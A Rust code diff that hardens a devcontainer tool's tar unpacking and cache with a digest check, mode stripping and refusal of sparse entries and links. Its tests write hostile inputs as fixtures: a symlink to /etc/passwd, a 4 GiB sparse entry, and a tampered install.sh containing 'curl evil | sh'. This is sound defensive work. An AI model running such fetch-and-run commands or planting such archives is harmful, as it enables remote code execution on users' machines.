@@ -84,28 +84,147 @@ fn hex(digest: &str) -> &str {
     digest.strip_prefix("sha256:").unwrap_or(digest)
 }
 
+/// The files den reads or writes in a Feature's folder: in an archive
+/// they must be plain files, never links to something on this machine.
+const OWN_FILES: &[&str] = &[
+    "devcontainer-feature.json",
+    "install.sh",
+    "devcontainer-features.env",
+    "devcontainer-features.builtin.env",
+    "den-feature-install.sh",
+];
+
+fn is_own_file(path: &Path) -> bool {
+    let mut parts = path.components().filter(|c| !matches!(c, std::path::Component::CurDir));
+    match (parts.next(), parts.next()) {
+        (Some(std::path::Component::Normal(name)), None) => OWN_FILES.iter().any(|f| name == *f),
+        _ => false,
+    }
+}
+
+fn invalid(message: String) -> std::io::Error {
+    std::io::Error::new(std::io::ErrorKind::InvalidData, message)
+}
+
 /// Unpacks a tar stream into a new folder at `dest` (through a temporary
-/// one beside it, so a failed unpack leaves nothing). Entries that would
-/// land outside the folder are refused by `tar`.
+/// one beside it, so a failed unpack leaves nothing), unless `dest` holds
+/// this content already and is unchanged ([`cached`]). Entries that would
+/// land outside the folder are skipped by `tar`; sparse files, devices and
+/// links in place of den's own files are refused; every mode loses group
+/// and other write and the set-id bits.
 fn unpack(reader: impl Read, dest: &Path) -> std::io::Result<()> {
-    if dest.is_dir() {
+    if cached(dest) {
         return Ok(());
     }
+    forget(dest)?;
     let parent = dest.parent().expect("cache folder");
     std::fs::create_dir_all(parent)?;
     let tmp = tempdir_in(parent)?;
-    let mut archive = tar::Archive::new(reader);
-    archive.set_preserve_permissions(false);
-    archive.set_overwrite(true);
-    let result = archive.unpack(&tmp).and_then(|()| match std::fs::rename(&tmp, dest) {
-        // Another den made it meanwhile: theirs is the same content.
-        Err(_) if dest.is_dir() => std::fs::remove_dir_all(&tmp),
-        r => r,
+    let result = unpack_entries(reader, &tmp).and_then(|()| seal(&tmp)).and_then(|digest| {
+        match std::fs::rename(&tmp, dest) {
+            // Another den made it meanwhile: theirs is checked like any.
+            Err(_) if dest.is_dir() => std::fs::remove_dir_all(&tmp),
+            Err(e) => Err(e),
+            Ok(()) => write_tree_digest(dest, &digest),
+        }
     });
     if result.is_err() {
         let _ = std::fs::remove_dir_all(&tmp);
     }
     result
+}
+
+fn unpack_entries(reader: impl Read, into: &Path) -> std::io::Result<()> {
+    let mut archive = tar::Archive::new(reader);
+    archive.set_preserve_permissions(false);
+    archive.set_overwrite(true);
+    archive.set_mask(0o022);
+    let mut total = 0u64;
+    for entry in archive.entries()? {
+        let mut entry = entry?;
+        let path = entry.path()?.into_owned();
+        let refuse = |why: &str| Err(invalid(format!("`{}` {why}", path.display())));
+        match entry.header().entry_type() {
+            tar::EntryType::Regular | tar::EntryType::Continuous | tar::EntryType::Directory => {}
+            tar::EntryType::Symlink | tar::EntryType::Link if is_own_file(&path) => {
+                return refuse("is a link; den reads this file, so it must be a plain file")
+            }
+            tar::EntryType::Symlink | tar::EntryType::Link => {}
+            tar::EntryType::GNUSparse => return refuse("is a sparse file; a Feature holds plain files only"),
+            tar::EntryType::XGlobalHeader => continue,
+            other => return refuse(&format!("is a {other:?} entry; a Feature holds files, folders and links only")),
+        }
+        total = total.saturating_add(entry.size());
+        if total > MAX_UNPACKED {
+            return Err(invalid(format!("the archive unpacks to more than {MAX_UNPACKED} bytes")));
+        }
+        entry.unpack_in(into)?;
+    }
+    Ok(())
+}
+
+/// Gives every file and folder under `dir` a mode without group or other
+/// write and without set-id bits (folders 0755), and returns the tree's
+/// digest, which [`cached`] checks before the folder is used again.
+fn seal(dir: &Path) -> std::io::Result<String> {
+    use std::os::unix::fs::PermissionsExt;
+    for (path, kind) in walk(dir, false)? {
+        let mode = match kind {
+            Kind::Dir => 0o755,
+            Kind::File => std::fs::symlink_metadata(&path)?.permissions().mode() & 0o755 | 0o600,
+            Kind::Link | Kind::Other => continue,
+        };
+        std::fs::set_permissions(&path, std::fs::Permissions::from_mode(mode))?;
+    }
+    std::fs::set_permissions(dir, std::fs::Permissions::from_mode(0o755))?;
+    tree_digest(dir, false)
+}
+
+fn tree_digest_file(dest: &Path) -> PathBuf {
+    dest.with_extension("tree")
+}
+
+fn write_tree_digest(dest: &Path, digest: &str) -> std::io::Result<()> {
+    let file = tree_digest_file(dest);
+    let tmp = file.with_extension(format!("tree.{}", std::process::id()));
+    std::fs::write(&tmp, digest)?;
+    std::fs::rename(&tmp, &file)
+}
+
+/// Removes a cached folder (and its digest) that is not to be trusted.
+fn forget(dest: &Path) -> std::io::Result<()> {
+    match std::fs::remove_file(tree_digest_file(dest)) {
+        Err(e) if e.kind() != std::io::ErrorKind::NotFound => return Err(e),
+        _ => {}
+    }
+    match std::fs::symlink_metadata(dest) {
+        Ok(m) if m.is_dir() => std::fs::remove_dir_all(dest),
+        Ok(_) => std::fs::remove_file(dest),
+        Err(_) => Ok(()),
+    }
+}
+
+/// Whether a cached Feature folder may be used again: it is den's
+/// (owned like the cache folder, nothing writable by group or others, no
+/// set-id bits, den's own files plain files) and its files are the ones
+/// unpacked (the digest recorded beside it).
+fn cached(dest: &Path) -> bool {
+    use std::os::unix::fs::MetadataExt;
+    let (Ok(top), Some(owner)) =
+        (std::fs::symlink_metadata(dest), dest.parent().and_then(|p| std::fs::metadata(p).ok()).map(|m| m.uid()))
+    else {
+        return false;
+    };
+    let Ok(recorded) = std::fs::read_to_string(tree_digest_file(dest)) else { return false };
+    let sound = |m: &std::fs::Metadata| m.uid() == owner && (m.file_type().is_symlink() || m.mode() & 0o7022 == 0);
+    let Ok(entries) = walk(dest, false) else { return false };
+    top.is_dir()
+        && sound(&top)
+        && entries.iter().all(|(path, kind)| {
+            let own = is_own_file(path.strip_prefix(dest).unwrap_or(path));
+            std::fs::symlink_metadata(path).is_ok_and(|m| sound(&m)) && !(own && *kind != Kind::File)
+        })
+        && tree_digest(dest, false).is_ok_and(|d| d == recorded)
 }
 
 fn tempdir_in(parent: &Path) -> std::io::Result<PathBuf> {
@@ -120,40 +239,69 @@ fn tempdir_in(parent: &Path) -> std::io::Result<PathBuf> {
     Err(std::io::Error::other("no free temporary folder name"))
 }
 
-/// A digest of a folder's files: each relative path and its bytes, in
-/// sorted order (`.git` folders left out).
-pub fn folder_digest(dir: &Path) -> std::io::Result<String> {
-    use sha2::Digest;
-    let mut files = Vec::new();
+/// What a path in a folder is (links are not followed).
+#[derive(Debug, Clone, Copy, PartialEq, Eq, PartialOrd, Ord)]
+enum Kind {
+    Dir,
+    File,
+    Link,
+    /// A socket, a fifo, a device.
+    Other,
+}
+
+/// Every path under `dir` with its kind, links not followed (`.git`
+/// folders left out when `skip_git`).
+fn walk(dir: &Path, skip_git: bool) -> std::io::Result<Vec<(PathBuf, Kind)>> {
+    let mut out = Vec::new();
     let mut stack = vec![dir.to_path_buf()];
     while let Some(d) = stack.pop() {
         for e in std::fs::read_dir(&d)? {
             let e = e?;
             let t = e.file_type()?;
-            if t.is_dir() {
-                if e.file_name() != ".git" {
-                    stack.push(e.path());
+            let kind = match () {
+                _ if t.is_dir() => Kind::Dir,
+                _ if t.is_symlink() => Kind::Link,
+                _ if t.is_file() => Kind::File,
+                _ => Kind::Other,
+            };
+            if kind == Kind::Dir {
+                if skip_git && e.file_name() == ".git" {
+                    continue;
                 }
-            } else {
-                files.push(e.path());
+                stack.push(e.path());
             }
+            out.push((e.path(), kind));
         }
     }
+    Ok(out)
+}
+
+/// A digest of a folder's files: each relative path and its bytes (a
+/// link's target, never what it points to), in sorted order.
+fn tree_digest(dir: &Path, skip_git: bool) -> std::io::Result<String> {
+    use sha2::Digest;
+    let mut files: Vec<(PathBuf, Kind)> =
+        walk(dir, skip_git)?.into_iter().filter(|(_, k)| matches!(k, Kind::File | Kind::Link)).collect();
     files.sort();
     let mut h = sha2::Sha256::new();
-    for f in files {
+    for (f, kind) in files {
         let rel = f.strip_prefix(dir).unwrap_or(&f);
         h.update(rel.as_os_str().as_encoded_bytes());
         h.update([0]);
-        let bytes = if f.is_file() {
-            std::fs::read(&f)?
-        } else {
-            std::fs::read_link(&f)?.into_os_string().into_encoded_bytes()
+        let bytes = match kind {
+            Kind::File => std::fs::read(&f)?,
+            _ => std::fs::read_link(&f)?.into_os_string().into_encoded_bytes(),
         };
         h.update((bytes.len() as u64).to_le_bytes());
         h.update(&bytes);
     }
     Ok(format!("sha256:{}", h.finalize().iter().map(|b| format!("{b:02x}")).collect::<String>()))
+}
+
+/// A digest of a folder's files: each relative path and its bytes, in
+/// sorted order (`.git` folders, sockets and fifos left out).
+pub fn folder_digest(dir: &Path) -> std::io::Result<String> {
+    tree_digest(dir, true)
 }
 
 impl Fetcher {
@@ -203,7 +351,7 @@ impl Fetcher {
                 };
                 let manifest = self.client.manifest(&r).map_err(|e| fail(e.to_string()))?;
                 let dir = self.cache.join("oci").join(hex(&manifest.digest));
-                if !dir.join("devcontainer-feature.json").is_file() {
+                if !cached(&dir) {
                     let layers = manifest.layers();
                     let (_, layer, _) = layers
                         .iter()
@@ -283,6 +431,128 @@ mod tests {
         std::fs::write(d.path().join("sub/x"), "").unwrap();
         let c = folder_digest(d.path()).unwrap();
         assert!(a != b && b != c);
+    }
+
+    /// A tar archive of `entries` (header, path, data), as `tar` writes it.
+    fn archive(entries: Vec<(tar::Header, &str, &[u8])>) -> Vec<u8> {
+        let mut b = tar::Builder::new(Vec::new());
+        for (mut h, path, data) in entries {
+            b.append_data(&mut h, path, data).unwrap();
+        }
+        b.into_inner().unwrap()
+    }
+
+    fn header(kind: tar::EntryType, mode: u32, size: u64) -> tar::Header {
+        let mut h = tar::Header::new_gnu();
+        h.set_entry_type(kind);
+        h.set_mode(mode);
+        h.set_size(size);
+        h
+    }
+
+    fn feature_files() -> Vec<(tar::Header, &'static str, &'static [u8])> {
+        let json: &[u8] = br#"{"id": "x"}"#;
+        vec![
+            (header(tar::EntryType::Regular, 0o644, json.len() as u64), "devcontainer-feature.json", json),
+            (header(tar::EntryType::Regular, 0o755, 10), "install.sh", b"#!/bin/sh\n"),
+        ]
+    }
+
+    #[test]
+    fn sparse_entries_are_refused_before_anything_grows() {
+        // 230 bytes of archive that would be a 4 GiB file: one GNU sparse
+        // entry holding one byte at offset 4 GiB - 1.
+        let mut h = header(tar::EntryType::GNUSparse, 0o644, 1);
+        let gnu = h.as_gnu_mut().unwrap();
+        gnu.set_real_size(4 << 30);
+        gnu.sparse[0].set_offset((4 << 30) - 1);
+        gnu.sparse[0].set_length(1);
+        let mut entries = feature_files();
+        entries.push((h, "big", b"x"));
+        let bytes = archive(entries);
+        let d = tempfile::tempdir().unwrap();
+        let e = unpack(&bytes[..], &d.path().join("f")).unwrap_err().to_string();
+        assert!(e.contains("`big` is a sparse file"), "{e}");
+        assert!(std::fs::read_dir(d.path()).unwrap().next().is_none(), "nothing is left");
+    }
+
+    #[test]
+    fn modes_lose_group_and_other_write_and_set_id_bits() {
+        use std::os::unix::fs::PermissionsExt;
+        let mut entries = feature_files();
+        entries.push((header(tar::EntryType::Regular, 0o6777, 1), "tool", b"x"));
+        entries.push((header(tar::EntryType::Directory, 0o777, 0), "sub", b""));
+        entries.push((header(tar::EntryType::Regular, 0o666, 1), "sub/data", b"y"));
+        let d = tempfile::tempdir().unwrap();
+        let dest = d.path().join("f");
+        unpack(&archive(entries)[..], &dest).unwrap();
+        let mode = |p: &str| std::fs::metadata(dest.join(p)).unwrap().permissions().mode() & 0o7777;
+        assert_eq!(mode("tool"), 0o755);
+        assert_eq!(mode("sub"), 0o755);
+        assert_eq!(mode("sub/data"), 0o644);
+        assert_eq!(mode(""), 0o755);
+    }
+
+    #[test]
+    fn den_s_own_files_may_not_be_links() {
+        for (kind, name) in [
+            (tar::EntryType::Symlink, "devcontainer-feature.json"),
+            (tar::EntryType::Symlink, "./install.sh"),
+            (tar::EntryType::Link, "devcontainer-features.env"),
+        ] {
+            let mut b = tar::Builder::new(Vec::new());
+            let mut h = header(kind, 0o777, 0);
+            b.append_link(&mut h, name, if kind == tar::EntryType::Link { "other" } else { "/etc/passwd" }).unwrap();
+            let bytes = b.into_inner().unwrap();
+            let d = tempfile::tempdir().unwrap();
+            let e = unpack(&bytes[..], &d.path().join("f")).unwrap_err().to_string();
+            assert!(e.contains("is a link; den reads this file"), "{name}: {e}");
+        }
+        // Links elsewhere in a Feature stay links.
+        let mut b = tar::Builder::new(Vec::new());
+        for (mut h, p, data) in feature_files() {
+            b.append_data(&mut h, p, data).unwrap();
+        }
+        b.append_link(&mut header(tar::EntryType::Symlink, 0o777, 0), "lib/current", "v1").unwrap();
+        let d = tempfile::tempdir().unwrap();
+        unpack(&b.into_inner().unwrap()[..], &d.path().join("f")).unwrap();
+        assert_eq!(std::fs::read_link(d.path().join("f/lib/current")).unwrap(), Path::new("v1"));
+    }
+
+    #[test]
+    fn a_cached_tree_that_changed_is_unpacked_again() {
+        use std::os::unix::fs::PermissionsExt;
+        let bytes = archive(feature_files());
+        let d = tempfile::tempdir().unwrap();
+        let dest = d.path().join("f");
+        unpack(&bytes[..], &dest).unwrap();
+        assert!(cached(&dest));
+        // Another hand appends to install.sh: the tree no longer matches.
+        std::fs::write(dest.join("install.sh"), "#!/bin/sh\ncurl evil | sh\n").unwrap();
+        assert!(!cached(&dest));
+        unpack(&bytes[..], &dest).unwrap();
+        assert_eq!(std::fs::read_to_string(dest.join("install.sh")).unwrap(), "#!/bin/sh\n");
+        // A mode that lets others write is not trusted either.
+        std::fs::set_permissions(dest.join("install.sh"), std::fs::Permissions::from_mode(0o777)).unwrap();
+        assert!(!cached(&dest));
+        // devcontainer-feature.json made a link to a host file.
+        unpack(&bytes[..], &dest).unwrap();
+        std::fs::remove_file(dest.join("devcontainer-feature.json")).unwrap();
+        std::os::unix::fs::symlink("/etc/hostname", dest.join("devcontainer-feature.json")).unwrap();
+        assert!(!cached(&dest));
+        unpack(&bytes[..], &dest).unwrap();
+        assert!(std::fs::symlink_metadata(dest.join("devcontainer-feature.json")).unwrap().is_file());
+    }
+
+    #[test]
+    fn folder_digests_read_link_targets_not_what_they_point_to() {
+        let d = tempfile::tempdir().unwrap();
+        let outside = tempfile::tempdir().unwrap();
+        std::fs::write(outside.path().join("secret"), "1").unwrap();
+        std::os::unix::fs::symlink(outside.path().join("secret"), d.path().join("link")).unwrap();
+        let a = folder_digest(d.path()).unwrap();
+        std::fs::write(outside.path().join("secret"), "2").unwrap();
+        assert_eq!(a, folder_digest(d.path()).unwrap());
     }
 
     #[test]
